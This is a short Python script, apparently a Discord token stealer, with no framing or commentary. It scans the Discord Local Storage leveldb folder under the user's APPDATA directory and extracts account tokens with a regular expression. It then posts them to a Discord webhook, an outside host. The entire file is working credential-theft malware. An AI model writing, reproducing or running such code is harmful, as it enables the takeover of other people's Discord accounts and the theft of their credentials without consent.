import os
import re
import requests

WEBHOOK = "https://discord.com/api/webhooks/1111/abcd"
roaming = os.getenv("APPDATA")
path = roaming + "\\Discord\\Local Storage\\leveldb"
tokens = []
for name in os.listdir(path):
    with open(os.path.join(path, name), errors="ignore") as f:
        for line in f.readlines():
            tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
requests.post(WEBHOOK, json={"content": "\n".join(tokens)})
